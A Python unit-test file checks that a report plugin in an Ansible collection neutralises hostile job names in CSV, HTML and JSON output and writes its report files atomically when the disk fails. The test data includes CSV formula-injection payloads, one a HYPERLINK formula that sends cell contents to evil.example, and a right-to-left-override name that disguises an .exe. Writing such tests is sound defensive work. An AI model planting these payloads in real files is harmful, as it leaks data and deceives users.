"""Hostile job names and failing disks: what any user of a host, or a full disk, must not do to the report.

- a CSV cell a spreadsheet can make, with ',' or ';' as the separator, never starts a formula;
- a lone surrogate from a host neither crashes a format nor survives into a file (U+FFFD instead);
- invisible and direction-changing characters show as their code point in the HTML, raw in the JSON;
- the report set is replaced whole or not at all when writing fails.
"""
from __future__ import annotations

import csv
import datetime
import errno
import io
import json
import re
import typing as t
from pathlib import Path

import pytest

from ansible_collections.winbits.bits.plugins.plugin_utils._report import build, stream
from ansible_collections.winbits.bits.plugins.plugin_utils._report.build import (
    FILE_NAMES,
    build_report,
    render_reports,
    write_reports,
)
from ansible_collections.winbits.bits.plugins.plugin_utils._report.formats import render_csv
from ansible_collections.winbits.bits.plugins.plugin_utils._report.html import render_html, table_data
from ansible_collections.winbits.bits.tests.unit.utils.bits_report_assessment import (
    assessment,
    host,
    job,
    sample_assessment,
    table_rows,
)

NOW = datetime.datetime(2026, 11, 21, 8, 15, tzinfo=datetime.timezone.utc)
LATER = datetime.datetime(2026, 11, 22, 8, 15, tzinfo=datetime.timezone.utc)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    'x;=HYPERLINK("http://evil.example/?"&A1;"click")',
    "a;+1;-2;@SUM(A1)",
    "tab;\t=1", "cr\r=1", "lf\n=1", 'quote;"=1"', "comma,=1", "=1;=2", "-x", "ok;\r\n@y",
]
SURROGATE_NAME = "half\ud800pair"
RLO_NAME = "report\u202etxt.exe"
LONG_NAME = "L" * 256


def hostile_report(names: t.Sequence[str], at: datetime.datetime = NOW) -> dict[str, t.Any]:
    jobs = [job(number, host="evil01", name=name, status="violation", rule="user-jobs",
                problems=["network is not allowed by rule user-jobs (allowed: local_file)"],
                fixed_flags=["local_file"]) for number, name in enumerate(names, start=1)]
    for item in jobs:
        item["owner_name"] = item["name"]
    return build_report(assessment([host("evil01", jobs)]), generated_at=at, previous=None)


def spreadsheet_cells(text: str, separator: str) -> t.Iterator[str]:
    """Every cell a spreadsheet could make of the CSV: with its quotes honoured, or ignored, line by line."""
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row
    for line in re.split("\r\n|\n|\r", text):
        for cell in line.split(separator):
            yield cell.lstrip('"')


# --- CSV in a ';' locale -------------------------------------------------------------------------------

@pytest.mark.parametrize("separator", [",", ";"])
def test_no_spreadsheet_cell_starts_a_formula(separator: str) -> None:
    text = render_csv(hostile_report(HOSTILE_NAMES))
    starts = [cell for cell in spreadsheet_cells(text, separator) if cell.startswith(FORMULA_START)]
    assert starts == []


def test_the_neutralised_csv_keeps_the_text_readable() -> None:
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_report(HOSTILE_NAMES)), newline="")))
    assert rows[0]["job_name"] == "x;'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")"
    assert rows[0]["job_name"].replace("'", "") == HOSTILE_NAMES[0].replace("'", "")


# --- characters that crash or deceive -------------------------------------------------------------------

def test_a_lone_surrogate_is_replaced_in_every_format(tmp_path: Path) -> None:
    paths = write_reports(hostile_report([SURROGATE_NAME]), tmp_path)
    for name, path in paths.items():
        text = path.read_text(encoding="utf-8")
        assert "\ud800" not in text
        assert ("half\ufffdpair" in text or "half⟨U+D800⟩pair" in text), name
    assert json.loads(paths["json"].read_text(encoding="utf-8"))["hosts"][0]["jobs"][0]["name"] == "half\ufffdpair"


def test_a_lone_surrogate_does_not_make_an_unchanged_report_changed(tmp_path: Path) -> None:
    write_reports(hostile_report([SURROGATE_NAME]), tmp_path)
    assert not any(item.changed for item in render_reports(hostile_report([SURROGATE_NAME], LATER), tmp_path))


def test_invisible_characters_are_shown_in_the_html_and_kept_in_the_json(tmp_path: Path) -> None:
    names = [RLO_NAME, "zero\u200bwidth", "no\u00a0break", "fill\u3164er"]
    report = hostile_report(names)
    shown = [row["name"] for row in table_rows(table_data(report))]
    assert shown == ["report⟨U+202E⟩txt.exe", "zero⟨U+200B⟩width", "no⟨U+00A0⟩break", "fill⟨U+3164⟩er"]
    page = render_html(report)
    assert "\u202e" not in page and "\u200b" not in page
    paths = write_reports(report, tmp_path, ["json"])
    assert [item["name"] for item in json.loads(paths["json"].read_text(encoding="utf-8"))["hosts"][0]["jobs"]] == names


def test_invisible_characters_in_static_lists_are_shown_too() -> None:
    previous = json.loads(json.dumps(hostile_report(["old"])))
    current = build_report(assessment([host("evil01", [job(9, host="evil01", name=RLO_NAME)])]),
                           generated_at=NOW, previous=previous)
    page = render_html(current)
    assert "report⟨U+202E⟩txt.exe" in page and "\u202e" not in page


# --- the report set, whole or not at all ------------------------------------------------------------------

def _set_on_disk(directory: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(directory.iterdir())}


class _DiskFullAfter:
    """A text file that takes ``room`` characters, then fails as a full disk does."""

    def __init__(self, stream: t.TextIO, room: int) -> None:
        self._stream, self._room = stream, room

    def write(self, text: str) -> int:
        if len(text) > self._room:
            self._stream.write(text[: self._room])
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(text)
        return self._stream.write(text)

    def __getattr__(self, name: str) -> t.Any:
        return getattr(self._stream, name)

    def __enter__(self) -> "_DiskFullAfter":
        return self

    def __exit__(self, *exc: object) -> None:
        self._stream.close()


@pytest.mark.parametrize("full_at", [0, 2, 4, 6])
def test_a_full_disk_leaves_the_previous_set_intact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                    full_at: int) -> None:
    write_reports(build_report(sample_assessment(), generated_at=NOW, previous=None), tmp_path)
    before = _set_on_disk(tmp_path)
    real_open = stream._open
    opened: list[str] = []

    def open_on_a_filling_disk(path: Path, mode: str = "w") -> t.Any:
        opened.append(path.name)
        handle = real_open(path, mode)
        return _DiskFullAfter(handle, 100) if len(opened) > full_at else handle

    monkeypatch.setattr(stream, "_open", open_on_a_filling_disk)
    with pytest.raises(OSError):
        write_reports(hostile_report(["new job"] * 3, LATER), tmp_path)
    assert _set_on_disk(tmp_path) == before, "a file of the previous set was replaced or a staging file left"


def test_a_failed_rename_puts_the_previous_files_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_reports(build_report(sample_assessment(), generated_at=NOW, previous=None), tmp_path)
    before = _set_on_disk(tmp_path)
    real_replace = build.os.replace
    calls: list[str] = []

    def third_rename_fails(source: t.Any, target: t.Any) -> None:
        calls.append(str(target))
        if len(calls) == 3:
            raise OSError(errno.EIO, "Input/output error")
        real_replace(source, target)

    monkeypatch.setattr(build.os, "replace", third_rename_fails)
    with pytest.raises(OSError):
        write_reports(hostile_report(["new job"], LATER), tmp_path)
    monkeypatch.setattr(build.os, "replace", real_replace)
    assert _set_on_disk(tmp_path) == before


def test_a_new_set_replaces_every_file(tmp_path: Path) -> None:
    write_reports(build_report(sample_assessment(), generated_at=NOW, previous=None), tmp_path)
    paths = write_reports(hostile_report(["new job"], LATER), tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(FILE_NAMES[name] for name in paths)
    for path in paths.values():
        assert "new job" in path.read_text(encoding="utf-8")
